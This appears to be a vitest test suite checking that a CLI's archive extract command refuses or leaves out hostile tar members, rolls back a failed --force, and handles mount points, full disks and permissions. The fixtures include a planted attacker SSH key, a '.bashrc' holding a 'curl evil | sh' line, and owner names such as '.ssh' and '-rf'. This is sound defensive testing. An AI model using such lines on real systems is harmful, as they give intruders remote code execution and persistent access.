import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { createGzip } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { runGit } from '../helpers/git-remotes.js';
import { filesOf, git, type RepoFile, realRepository } from '../helpers/hostile-archives.js';
import { GIT_SETUP, reportOf } from '../helpers/restore-archives.js';
import { BIN, type CliResult, runCli } from '../helpers/run-cli.js';
import { unless } from '../helpers/skip.js';
import { member, tarGz } from '../helpers/tar-bytes.js';

// `archive extract` where the archive or DIR is out of the ordinary: members the service's archives
// never hold, a pack's reverse index that git fsck lets pass, DIR a mount point or the user's own
// directory, a --force that fails half-way, the room running out. In-process where no process or
// root is needed.

const tempDir = () => mkdtempSync(join(tmpdir(), 'svc-extract-safety-'));
const CEILING_MS = 120_000;

interface ExtractReport {
  repositories: { name: string; path: string }[];
  files: string[];
  left_out: { count: number; first: string[] };
}

const extract = (args: string[]) => runCli(['archive', 'extract', ...args], { env: GIT_SETUP, timeoutMs: CEILING_MS });

/** An archive of one repository `<owner>/r` (its files as `files` has them), its metadata, and `extra` members. */
function archiveOf(files: RepoFile[], { owner = 'acme', schema = '1.2.0', extra = [] as Buffer[] } = {}): string {
  const members = files.filter((file) => file.rest !== 'config' && !file.rest.startsWith('hooks/')).map((file) => member({ name: `repositories/${owner}/r.git/${file.rest}` }, file.data));
  const bytes = tarGz(
    member({ name: 'schema.json' }, JSON.stringify({ version: schema })),
    member({ name: 'repositories_000001.json' }, JSON.stringify([{ full_name: `${owner}/r` }])),
    member({ name: 'attachments/', type: '5' }),
    member({ name: 'attachments/a.png' }, `png ${schema}`),
    ...members,
    ...extra,
  );
  const path = join(tempDir(), 'a.tar.gz');
  writeFileSync(path, bytes);
  return path;
}

/** Every path under `dir` with its kind and content: what a failed run must leave as it was. */
function snapshot(dir: string): string[] {
  const seen: string[] = [];
  const walk = (at: string) => {
    for (const name of readdirSync(at).sort()) {
      const path = join(at, name);
      const info = lstatSync(path);
      if (info.isDirectory()) {
        seen.push(`${relative(dir, path)}/`);
        walk(path);
      } else seen.push(`${relative(dir, path)} ${readFileSync(path).toString('base64')}`);
    }
  };
  walk(dir);
  return seen;
}

/** A tmpfs of `megabytes` mounted at `dir` (root only): false when it cannot be. */
function mounted(dir: string, megabytes: number): boolean {
  try {
    execFileSync('mount', ['-t', 'tmpfs', '-o', `size=${megabytes}m`, 'tmpfs', dir], { stdio: 'ignore' });
    return true;
  } catch {
    return false;
  }
}

const canMount = (() => {
  const dir = tempDir();
  const can = mounted(dir, 1);
  if (can) execFileSync('umount', [dir]);
  rmSync(dir, { recursive: true, force: true });
  return can;
})();

describe('what extract writes', () => {
  it('only what the service\'s archives hold outside repositories/: top-level *.json and attachments/; the rest is left out, counted and named', async () => {
    const repo = realRepository();
    const archive = archiveOf(repo.files, {
      extra: [
        member({ name: '.ssh/', type: '5' }),
        member({ name: '.ssh/authorized_keys' }, 'ssh-ed25519 AAAA attacker\n'),
        member({ name: '.bashrc' }, 'curl evil | sh\n'),
        member({ name: 'bin/ls' }, '#!/bin/sh\n'),
        member({ name: 'notes.txt' }, 'hello\n'),
        member({ name: '.claude.json' }, '{"hooks":{}}'),
        member({ name: 'package.json' }, '{"scripts":{}}'),
        member({ name: 'attachments/b/c.txt' }, 'kept\n'),
      ],
    });
    const home = tempDir();
    mkdirSync(join(home, '.ssh'));
    writeFileSync(join(home, '.ssh', 'authorized_keys'), 'mine\n');
    writeFileSync(join(home, '.bashrc'), 'my bashrc\n');

    const result = await extract([archive, home, '--force', '--json']);
    expect(result.code, result.stderr).toBe(0);
    expect(readFileSync(join(home, '.ssh', 'authorized_keys'), 'utf8')).toBe('mine\n');
    expect(readFileSync(join(home, '.bashrc'), 'utf8')).toBe('my bashrc\n');
    expect(existsSync(join(home, 'bin'))).toBe(false);
    expect(existsSync(join(home, 'notes.txt'))).toBe(false);
    expect(readFileSync(join(home, 'attachments', 'b', 'c.txt'), 'utf8')).toBe('kept\n');
    const report = reportOf<ExtractReport>(result);
    expect(report.files.sort()).toEqual(['attachments/a.png', 'attachments/b/c.txt', 'repositories_000001.json', 'schema.json']);
    expect(report.left_out).toEqual({ count: 6, first: ['.ssh/authorized_keys', '.bashrc', 'bin/ls', 'notes.txt', '.claude.json'] });
    expect(existsSync(join(home, '.claude.json'))).toBe(false);
    expect(existsSync(join(home, 'package.json'))).toBe(false);

    const human = await extract([archive, join(tempDir(), 'out')]);
    expect(human.code, human.stderr).toBe(0);
    expect(human.stdout).toContain('left out 6 files the service\'s archives never hold (only the metadata, attachments/ and releases/ are written): .ssh/authorized_keys, .bashrc, bin/ls, notes.txt');
  }, CEILING_MS);

  it('no directory in a repository but those git needs: the archive\'s info/, hooks/, branches/ are not made', async () => {
    const repo = realRepository();
    const archive = archiveOf(repo.files, {
      extra: ['info/', 'hooks/', 'branches/', 'refs/', 'refs/tags/', 'logs/'].map((name) => member({ name: `repositories/acme/r.git/${name}`, type: '5' })),
    });
    const dir = join(tempDir(), 'out');
    const result = await extract([archive, dir]);
    expect(result.code, result.stderr).toBe(0);
    const repository = join(dir, 'acme', 'r.git');
    expect(readdirSync(repository).filter((name) => statSync(join(repository, name)).isDirectory()).sort()).toEqual(['logs', 'objects', 'refs']);
    await runGit(['--git-dir', repository, 'fsck', '--no-progress']);
  }, CEILING_MS);

  it('a pack\'s reverse index and bitmap are not written: one with its entries permuted, which git fsck 2.39 passes, leaves a repository git clones', async () => {
    const source = tempDir();
    git(['init', '-q', 'work'], source);
    for (let i = 1; i <= 5; i++) {
      writeFileSync(join(source, 'work', `f${i}.txt`), `line ${i}\n`);
      git(['add', '.'], join(source, 'work'));
      git(['commit', '-q', '-m', `c${i}`], join(source, 'work'));
    }
    git(['clone', '-q', '--bare', 'work', 'r.git'], source);
    const bare = join(source, 'r.git');
    git(['-c', 'pack.writeReverseIndex=true', 'repack', '-a', '-d', '-b', '-q'], bare);
    const pack = join(bare, 'objects', 'pack');
    const rev = readdirSync(pack).find((name) => name.endsWith('.rev')) as string;
    expect(readdirSync(pack).some((name) => name.endsWith('.bitmap')), 'a bitmap').toBe(true);
    const bytes = readFileSync(join(pack, rev));
    const [first, second] = [bytes.readUInt32BE(12), bytes.readUInt32BE(16)];
    bytes.writeUInt32BE(second, 12);
    bytes.writeUInt32BE(first, 16);
    chmodSync(join(pack, rev), 0o644);
    writeFileSync(join(pack, rev), bytes);
    // The premise: with this .rev, git serves no clone.
    expect(() => git(['clone', '-q', '--no-local', bare, join(source, 'from-source')], source)).toThrow();

    const dir = join(tempDir(), 'out');
    const result = await extract([archiveOf(filesOf(bare)), dir]);
    expect(result.code, result.stderr).toBe(0);
    const extracted = join(dir, 'acme', 'r.git');
    expect(readdirSync(join(extracted, 'objects', 'pack')).filter((name) => /\.(rev|bitmap)$/.test(name))).toEqual([]);
    const clone = join(tempDir(), 'clone');
    await runGit(['clone', '-q', '--no-local', extracted, clone]);
    expect(await runGit(['-C', clone, 'log', '--format=%s'])).toBe('c5\nc4\nc3\nc2\nc1\n');
  }, CEILING_MS);
  it('an owner the service never names (.bashrc, .ssh): exit 9, nothing written', async () => {
    const repo = realRepository();
    for (const owner of ['.bashrc', '.ssh', '-rf']) {
      const home = tempDir();
      writeFileSync(join(home, '.bashrc'), 'my bashrc\n');
      const result = await extract([archiveOf(repo.files, { owner }), home, '--force']);
      expect(result.code, result.stderr).toBe(9);
      expect(result.stderr).toMatch(/cannot be extracted: .* is not a name the service gives/);
      expect(snapshot(home)).toEqual([`.bashrc ${Buffer.from('my bashrc\n').toString('base64')}`]);
    }
  }, CEILING_MS);

  it('--force renames only repositories over whole: an owner named acme.git and an attachments directory named x.git are moved into, the user\'s files in them kept', async () => {
    const repo = realRepository();
    const archive = archiveOf(repo.files, { owner: 'acme.git', extra: [member({ name: 'attachments/uploads.git/new.png' }, 'new')] });
    const dir = tempDir();
    mkdirSync(join(dir, 'acme.git', 'precious.git'), { recursive: true });
    writeFileSync(join(dir, 'acme.git', 'precious.git', 'HEAD'), 'keep\n');
    writeFileSync(join(dir, 'acme.git', 'notes.txt'), 'mine\n');
    mkdirSync(join(dir, 'attachments', 'uploads.git'), { recursive: true });
    writeFileSync(join(dir, 'attachments', 'uploads.git', 'old.png'), 'old');

    const result = await extract([archive, dir, '--force']);
    expect(result.code, result.stderr).toBe(0);
    expect(readFileSync(join(dir, 'acme.git', 'precious.git', 'HEAD'), 'utf8')).toBe('keep\n');
    expect(readFileSync(join(dir, 'acme.git', 'notes.txt'), 'utf8')).toBe('mine\n');
    expect(existsSync(join(dir, 'acme.git', 'r.git', 'HEAD'))).toBe(true);
    expect(readFileSync(join(dir, 'attachments', 'uploads.git', 'old.png'), 'utf8')).toBe('old');
    expect(readFileSync(join(dir, 'attachments', 'uploads.git', 'new.png'), 'utf8')).toBe('new');
  }, CEILING_MS);
});

describe('where extract writes', () => {
  it('an empty DIR that exists is extracted into, not replaced: its inode and mode are the user\'s still', async () => {
    const archive = archiveOf(realRepository().files);
    const dir = join(tempDir(), 'out');
    mkdirSync(dir);
    chmodSync(dir, 0o751);
    const before = statSync(dir);
    const result = await extract([archive, dir]);
    expect(result.code, result.stderr).toBe(0);
    const after = statSync(dir);
    expect([after.ino, after.mode & 0o777]).toEqual([before.ino, 0o751]);
    expect(readdirSync(dir).sort()).toEqual(['acme', 'attachments', 'repositories_000001.json', 'schema.json']);
  }, CEILING_MS);

  it('an empty DIR argument is refused (exit 2): it would be the current directory', async () => {
    const archive = archiveOf(realRepository().files);
    for (const args of [[archive, ''], [archive, '', '--force']]) {
      const result = await extract(args);
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toContain('error: the DIR argument is empty');
    }
  });

  it('a failed extract removes the parent directories it made', async () => {
    const archive = archiveOf(realRepository().files, { extra: [member({ name: 'repositories/acme/r.git/hooks/post-update' }, '#!/bin/sh\n')] });
    const parent = tempDir();
    const result = await extract([archive, join(parent, 'new1', 'new2', 'out')]);
    expect(result.code, result.stderr).toBe(9);
    expect(readdirSync(parent)).toEqual([]);
  }, CEILING_MS);

  describe.skipIf(!canMount)(`DIR a mount point${unless(canMount, 'cannot mount a tmpfs here; needs root')}`, () => {
    const mounts: string[] = [];
    afterAll(() => {
      for (const dir of mounts.reverse()) execFileSync('umount', [dir]);
    });
    const mount = (dir: string, megabytes = 64) => {
      expect(mounted(dir, megabytes)).toBe(true);
      mounts.push(dir);
    };

    it('an empty mount point: made inside it, every rename on its file system; nothing left beside it or in it but the extraction', async () => {
      const archive = archiveOf(realRepository().files);
      const parent = tempDir();
      const dir = join(parent, 'out');
      mkdirSync(dir);
      mount(dir);
      const device = statSync(dir).dev;
      const result = await extract([archive, dir]);
      expect(result.code, result.stderr).toBe(0);
      expect(statSync(dir).dev).toBe(device);
      expect(readdirSync(parent)).toEqual(['out']);
      expect(readdirSync(dir).sort()).toEqual(['acme', 'attachments', 'repositories_000001.json', 'schema.json']);
      await runGit(['--git-dir', join(dir, 'acme', 'r.git'), 'fsck', '--no-progress']);
    }, CEILING_MS);

    it('a bind mount of the same device: extracted inside it, no rename across mounts', async () => {
      const archive = archiveOf(realRepository().files);
      const parent = tempDir();
      const source = join(parent, 'source');
      const dir = join(parent, 'out');
      mkdirSync(source);
      mkdirSync(dir);
      execFileSync('mount', ['--bind', source, dir]);
      mounts.push(dir);
      expect(statSync(dir).dev).toBe(statSync(parent).dev);
      const result = await extract([archive, dir]);
      expect(result.code, result.stderr).toBe(0);
      expect(readdirSync(source).sort()).toEqual(['acme', 'attachments', 'repositories_000001.json', 'schema.json']);
    }, CEILING_MS);

    it('--force that fails half-way (a repository\'s owner directory on another file system) puts DIR back as it was', async () => {
      const repo = realRepository();
      const dir = join(tempDir(), 'out');
      // An owner named to come after the metadata files, which are moved in first.
      const first = await extract([archiveOf(repo.files, { owner: 'zz', schema: '1.0.0' }), dir]);
      expect(first.code, first.stderr).toBe(0);
      mount(join(dir, 'zz'), 8);
      const before = snapshot(dir);
      const result = await extract([archiveOf(repo.files, { owner: 'zz', schema: '1.2.0' }), dir, '--force']);
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toContain(`${dir} was left as it was`);
      expect(snapshot(dir)).toEqual(before);
    }, CEILING_MS);

    it('out of room there: exit 2 before the disk is full, the hint for extract (no --no-git-check), nothing left', async () => {
      const disk = tempDir();
      mount(disk);
      const archive = await largePackArchive(256 << 20);
      const result = await extract([archive, join(disk, 'out')]);
      expect(result.code, result.stderr).toBe(2);
      expect(result.stderr).toMatch(/error: not enough free space in .* to check the archive's git objects/);
      expect(result.stderr).toContain('hint: free some space there, or extract to another disk');
      expect(result.stderr).not.toContain('--no-git-check');
      expect(readdirSync(disk)).toEqual([]);
    }, CEILING_MS);
  });

  const asRoot = process.getuid?.() === 0;
  // As root the test runs the built binary as nobody, who must reach it: not in a clone under a 0700 directory.
  const nobodyRunsIt = asRoot && spawnSync(process.execPath, [BIN, '--version'], { uid: 65534, gid: 65534, stdio: 'ignore' }).status === 0;
  it.skipIf(asRoot && !nobodyRunsIt)(`--force where a directory of DIR cannot be written: refused (exit 2) before anything is moved${asRoot ? ' (run as nobody)' : ''}${unless(!asRoot || nobodyRunsIt, 'nobody cannot reach the built binary from here')}`, async () => {
    const repo = realRepository();
    const dir = join(tempDir(), 'out');
    const first = await extract([archiveOf(repo.files, { owner: 'zz', schema: '1.0.0' }), dir]);
    expect(first.code, first.stderr).toBe(0);
    const archive = archiveOf(repo.files, { owner: 'zz', schema: '1.2.0' });
    let result: CliResult;
    if (asRoot) {
      // root writes anywhere: the user who cannot is nobody, given the paths it needs.
      const nobody = 65534;
      for (const path of [join(archive, '..'), archive]) chmodSync(path, statSync(path).isDirectory() ? 0o755 : 0o644);
      execFileSync('chown', ['-R', `${nobody}:${nobody}`, join(dir, '..')]);
      chmodSync(join(dir, 'zz'), 0o555);
      const home = tempDir();
      chmodSync(home, 0o777);
      const before = snapshot(dir);
      result = await spawnAs(nobody, [archive, dir, '--force'], home);
      expect(snapshot(dir)).toEqual(before);
    } else {
      chmodSync(join(dir, 'zz'), 0o555);
      const before = snapshot(dir);
      result = await extract([archive, dir, '--force']);
      expect(snapshot(dir)).toEqual(before);
    }
    expect(result.code, result.stderr).toBe(2);
    expect(result.stderr).toContain(`error: cannot write in ${join(dir, 'zz')}: permission denied`);
  }, CEILING_MS);
});

/** The built binary's `archive extract`, as the user `uid`. */
function spawnAs(uid: number, args: string[], home: string): Promise<CliResult> {
  return new Promise((resolve, reject) => {
    const child = spawn(process.execPath, [BIN, 'archive', 'extract', ...args], {
      uid,
      gid: uid,
      cwd: home,
      env: { ...process.env, ...GIT_SETUP, HOME: home, TMPDIR: home },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => (stdout += chunk));
    child.stderr.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
    child.on('error', reject);
    child.on('close', (code) => resolve({ code, stdout, stderr }));
  });
}

/** An archive of one repository whose one pack is `size` bytes: a pack's header, then zeros. */
async function largePackArchive(size: number): Promise<string> {
  const repo = realRepository();
  const refs = repo.files.filter((file) => file.rest === 'HEAD' || file.rest.startsWith('refs/'));
  const gzip = createGzip({ level: 1 });
  const out: Buffer[] = [];
  gzip.on('data', (chunk: Buffer) => out.push(chunk));
  const done = new Promise((resolve) => gzip.on('end', resolve));
  gzip.write(Buffer.concat([
    member({ name: 'schema.json' }, '{"version":"1.2.0"}'),
    member({ name: 'repositories_000001.json' }, JSON.stringify([{ full_name: 'acme/r' }])),
    ...refs.map((file) => member({ name: `repositories/acme/r.git/${file.rest}` }, file.data)),
  ]));
  const name = createHash('sha1').update('pack').digest('hex');
  const head = Buffer.from('PACK\0\0\0\x02\0\0\0\x01', 'latin1');
  gzip.write(member({ name: `repositories/acme/r.git/objects/pack/pack-${name}.pack`, size }).subarray(0, 512));
  gzip.write(head);
  const zeros = Buffer.alloc(1 << 20);
  for (let left = size - head.length; left > 0; left -= zeros.length) gzip.write(zeros.subarray(0, Math.min(left, zeros.length)));
  gzip.end(Buffer.alloc(1024 + ((512 - (size % 512)) % 512)));
  await done;
  const path = join(tempDir(), 'pack.tar.gz');
  writeFileSync(path, Buffer.concat(out));
  return path;
}
